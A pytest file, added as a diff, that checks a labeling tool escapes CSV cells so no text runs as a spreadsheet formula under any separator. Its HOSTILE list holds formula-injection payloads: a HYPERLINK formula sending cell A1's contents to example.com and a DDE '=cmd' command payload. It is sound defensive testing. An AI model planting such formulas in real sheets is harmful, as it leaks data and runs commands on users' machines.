@@ -1,0 +1,159 @@
+"""Test that no text on a sheet can run as a formula, whatever separator the spreadsheet program uses."""
+
+from __future__ import annotations
+
+import csv
+import io
+import time
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from include.distill.labeling.formula_escapes import escape_formulas
+from include.distill.labeling.records import LabelExample
+from include.distill.labeling.sheets import has_labels, read_sheet, render_sheet
+from tests.distill.labeling.example_sample import sample
+
+FORMULA_STARTS = set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")
+IGNORED = ' \x00\x01\xa0\u3000\xad\u200b\ufeff"\t\r\n\v\f\x85\u2028'
+HOSTILE = [
+    '=HYPERLINK("http://example.com/?"&A1,"open")',
+    "=cmd|'/C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\uff1d1+1",
+    "\ufe661+1",
+    "\u22121+1",
+]
+BEFORE = [
+    "",
+    "Yes.\n",
+    "Yes.\r\n",
+    "Yes.\r",
+    "Yes;",
+    "Yes; ",
+    "Yes\t",
+    "Yes\t\t ",
+    "Yes,",
+    'Yes;"',
+    'Yes; ""',
+    "Yes;\u200b",
+    "Yes;\xa0",
+    "Yes;\ufeff",
+    "Yes;\x00",
+    'Yes;"\n',
+    "a;b;c;;\t",
+    "\n\n\n",
+    "Yes.\v",
+    "Yes.\x85",
+    "Yes.\u2028",
+]
+READERS = [
+    pytest.param({"delimiter": ",", "quoting": csv.QUOTE_MINIMAL}, id="comma"),
+    pytest.param({"delimiter": ";", "quoting": csv.QUOTE_MINIMAL}, id="semicolon"),
+    pytest.param({"delimiter": "\t", "quoting": csv.QUOTE_MINIMAL}, id="tab"),
+    pytest.param({"delimiter": ",", "quoting": csv.QUOTE_NONE}, id="comma without quotes"),
+    pytest.param({"delimiter": ";", "quoting": csv.QUOTE_NONE}, id="semicolon without quotes"),
+    pytest.param({"delimiter": "\t", "quoting": csv.QUOTE_NONE}, id="tab without quotes"),
+]
+
+
+def sheet_with(text: str) -> list[LabelExample]:
+    """Return a sample in which every text is ``text``."""
+    return [
+        {**one, "question": text, "document": f"d {text}", "answer_a": f"a;{text}", "answer_b": text}
+        for one in sample(2)
+    ]
+
+
+def formulas(body: str, **reader: object) -> list[str]:
+    """Return the cells that a spreadsheet program would evaluate."""
+    cells = [cell for row in csv.reader(io.StringIO(body, newline=""), **reader) for cell in row]
+    return [cell for cell in cells if set(cell.lstrip(IGNORED)[:1]) & FORMULA_STARTS]
+
+
+@pytest.mark.parametrize("reader", READERS)
+@pytest.mark.parametrize("before", BEFORE)
+def test_no_program_evaluates_a_part_of_an_answer(before: str, reader: dict[str, object]) -> None:
+    for formula in HOSTILE:
+        body = render_sheet(sheet_with(before + formula)).decode("utf-8-sig")
+        assert formulas(body, **reader) == []
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(f"=-@\uff1d'a1,;{IGNORED}", max_size=14))
+@example(';"\n=1')
+@example('";"=1";"=2')
+def test_no_text_becomes_a_cell_that_a_program_evaluates(text: str) -> None:
+    body = render_sheet(sheet_with(text)).decode("utf-8-sig")
+    for reader in READERS:
+        assert formulas(body, **reader.values[0]) == []
+
+
+@pytest.mark.parametrize("first", [",", ";", "\t"])
+@pytest.mark.parametrize("second", [",", ";", "\t"])
+@pytest.mark.parametrize("before", BEFORE)
+def test_a_sheet_that_was_saved_with_the_wrong_separator_contains_no_formula(
+    before: str, first: str, second: str
+) -> None:
+    body = render_sheet(sheet_with(f"{before}=1+1 and, =2+2")).decode("utf-8-sig")
+    saved = io.StringIO(newline="")
+    csv.writer(saved, delimiter=first).writerows(csv.reader(io.StringIO(body, newline=""), delimiter=first))
+    assert formulas(saved.getvalue(), delimiter=second) == []
+
+
+@pytest.mark.parametrize("text", ["\tx", "\r\nx", " \nx", "\x00\tx"])
+def test_a_tab_or_a_line_break_does_not_begin_a_cell(text: str) -> None:
+    assert escape_formulas(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "Yes.",
+        "a = b",
+        "1+1=2",
+        "well-known",
+        "ada@example.com",
+        "x; y, z\tw\nv",
+        "5 - 3",
+        "'quoted'",
+        '"Quoted"; "more"',
+        "Use `x=1`.\nThen stop.",
+        "a,b;c",
+        "Déjà vu; naïve",
+        "李雷; Анна",
+        "(=1)",
+        "`-v`\n`-x`",
+    ],
+)
+def test_text_that_no_program_evaluates_is_not_changed(text: str) -> None:
+    assert escape_formulas(text) == text
+
+
+@given(st.text("=-@,;\t\r\n '\"a", max_size=20))
+def test_escaping_only_adds_apostrophes(text: str) -> None:
+    assert escape_formulas(text).replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@pytest.mark.parametrize("before", BEFORE)
+def test_the_labels_on_an_escaped_sheet_are_read_back(before: str, separator: str) -> None:
+    examples = sheet_with(f"{before}=1+1")
+    body = render_sheet(examples)
+    assert not has_labels(body, examples)
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    saved = io.StringIO(newline="")
+    csv.writer(saved, delimiter=separator).writerows([rows[0], *([*row[:-1], "B"] for row in rows[1:])])
+    labels = read_sheet(saved.getvalue().encode("utf-8-sig"), examples, source="s.csv").labels
+    assert list(labels.values()) == ["B", "B"]
+
+
+@pytest.mark.parametrize("text", [";" * 300_000, " " * 300_000, ';"' * 150_000, "\n" * 300_000, "; " * 150_000 + "="])
+def test_escaping_takes_linear_time(text: str) -> None:
+    began = time.process_time()
+    escape_formulas(text)
+    assert time.process_time() - began < 2
